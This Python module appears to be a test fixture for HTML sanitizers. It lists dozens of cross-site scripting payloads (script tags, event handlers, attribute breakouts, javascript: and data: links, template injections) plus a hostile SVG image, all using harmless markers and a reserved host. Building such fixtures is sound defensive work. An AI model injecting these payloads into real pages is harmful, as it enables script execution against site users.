"""Texts that would run something, if a page took them for more than text.

Each sets ``window.__pwned``, opens a dialog, or asks a host that is not the server's.
"""

from __future__ import annotations

from collections.abc import Sequence

ACT = "window.__pwned=1"
HOST = "https://pwned.invalid"

_ELEMENTS = (
    "<script>{act}</script>",
    "<SCRIPT SRC={host}/x.js></SCRIPT>",
    "<scr<script>ipt>{act}</script>",
    "<script type=module>{act}</script>",
    "<script\x0c>{act}</script>",
    "<img src=x onerror={act}>",
    "<img src=x onerror='{act}'>",
    "<img/src/onerror={act}>",
    "<img src={host}/i.png>",
    "<img srcset={host}/i.png>",
    "<image href=x onerror={act}>",
    "<picture><source srcset={host}/i.png><img></picture>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><set onbegin={act} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={act}/>#x'>",
    "<svg><foreignObject><iframe onload={act}></foreignObject></svg>",
    "<svg><a xlink:href='javascript:{act}'><text y=9>x</text></a></svg>",
    "<svg><style>@import '{host}/x.css';</style></svg>",
    "<svg><image href={host}/i.png></svg>",
    "<math><mtext><script>{act}</script></mtext></math>",
    "<math href='javascript:{act}'>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={act}>",
    "<body onload={act}>",
    "<body onpageshow={act}>",
    "<iframe src='javascript:{act}'></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src={host}></iframe>",
    "<iframe onload={act}></iframe>",
    "<object data='javascript:{act}'></object>",
    "<object data={host}></object>",
    "<embed src='javascript:{act}'>",
    "<embed src={host}/x.svg>",
    "<form action='javascript:{act}'><button autofocus onfocus={act}>x</button></form>",
    "<button formaction='javascript:{act}'>x</button>",
    "<input autofocus onfocus={act}>",
    "<input type=image src=x onerror={act}>",
    "<select autofocus onfocus={act}>",
    "<textarea autofocus onfocus={act}>",
    "<details open ontoggle={act}>",
    "<video src=x onerror={act}>",
    "<video><source onerror={act}></video>",
    "<video poster={host}/i.png>",
    "<audio src=x onerror={act}>",
    "<marquee onstart={act}>x</marquee>",
    "<style>@import '{host}/x.css';</style>",
    "<style>*{{background:url({host}/i.png)}}</style>",
    "<link rel=stylesheet href={host}/x.css>",
    "<link rel=stylesheet href=x onerror={act}>",
    "<link rel=prefetch href={host}>",
    "<link rel=dns-prefetch href={host}>",
    "<base href={host}>",
    "<meta http-equiv=refresh content='0;url={host}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<div style='animation:x' onanimationstart={act}>",
    "<div style='background:url({host}/i.png)'>",
    "<div onpointerover={act} style='position:fixed;inset:0'>",
    "<template shadowrootmode=open><img src=x onerror={act}></template>",
    "<custom-x tabindex=1 autofocus onfocus={act}>",
    "<dialog open onclose={act}><form method=dialog>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<table background={host}/i.png>",
    "<a href='javascript:{act}'>x</a>",
    "<a href='data:text/html,<script>opener.__pwned=1</script>'>x</a>",
    "<a ping={host} href=#>x</a>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
    "<img src=x onerror=fetch('{host}')>",
    "<img src=x onerror=print()>",
    "<svg onload=open('{host}')>",
)
_OUT_OF_ATTRIBUTES = (
    '"><script>{act}</script>',
    "'><script>{act}</script>",
    '"><img src=x onerror={act}>',
    "'><img src=x onerror={act}>",
    '" onmouseover="{act}',
    "' onmouseover='{act}",
    '" autofocus onfocus="{act}" x="',
    "' autofocus onfocus='{act}' x='",
    "` onerror={act} x=`",
    '" style="background:url({host}/i.png)" x="',
    '"/><svg onload={act}>',
)
_OUT_OF_ELEMENTS = (
    "</script><script>{act}</script>",
    "</style><script>{act}</script>",
    "</title><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</svg><script>{act}</script>",
    "</noscript><script>{act}</script>",
    "--><script>{act}</script>",
    "]]><script>{act}</script>",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<script>{act}</script>]]>",
)
_LINKS = (
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    "java\tscript:{act}",
    "java\nscript:{act}",
    "\x01javascript:{act}",
    " javascript:{act}",
    "javascript://%0a{act}",
    "javascript:alert(1)",
    "data:text/html,<script>opener.__pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{act}'/>",
    "vbscript:{act}",
    "blob:{host}/x",
    "{host}/x",
    "//pwned.invalid/x",
    "url({host}/i.png)",
    "image-set('{host}/i.png' 1x)",
    "[x](javascript:{act})",
    "![x]({host}/i.png)",
    "<javascript:{act}>",
)
_TEMPLATES = (
    "${{{act}}}",
    "{{{{constructor.constructor('{act}')()}}}}",
    "#{{{act}}}",
    "<%= {act} %>",
    "$\\href{{javascript:{act}}}{{x}}$",
    "$$\\unicode{{<img src=x onerror={act}>}}$$",
    "__proto__",
    "constructor",
    "%3Cscript%3E{act}%3C/script%3E",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "\x1b]8;;javascript:{act}\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror={act}>\x1b[0m",
    "\u202e<img src=x onerror={act}>\u202c",
)
PAYLOADS: Sequence[str] = tuple(
    text.format(act=ACT, host=HOST)
    for texts in (_ELEMENTS, _OUT_OF_ATTRIBUTES, _OUT_OF_ELEMENTS, _LINKS, _TEMPLATES)
    for text in texts
)
# A series is part of file names: what these cannot hold is left out.
SERIES = "<img src=x onerror=window.__pwned=1>"

PICTURE = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30"
 onload="{ACT};top.__pwned=1">
<script>{ACT};top.__pwned=1;fetch("{HOST}")</script>
<style>@import "{HOST}/x.css"; rect {{ fill: url("{HOST}/fill.svg#x") }}</style>
<image href="{HOST}/i.png" width="9" height="9"/>
<foreignObject width="90" height="30"><body xmlns="http://www.w3.org/1999/xhtml">
<img src="{HOST}/i.png" onerror="top.__pwned=1"/><iframe src="{HOST}"></iframe></body></foreignObject>
<a xlink:href="javascript:top.__pwned=1"><rect width="90" height="30"/></a>
<animate onbegin="top.__pwned=1" attributeName="x" dur="1s"/>
</svg>
"""
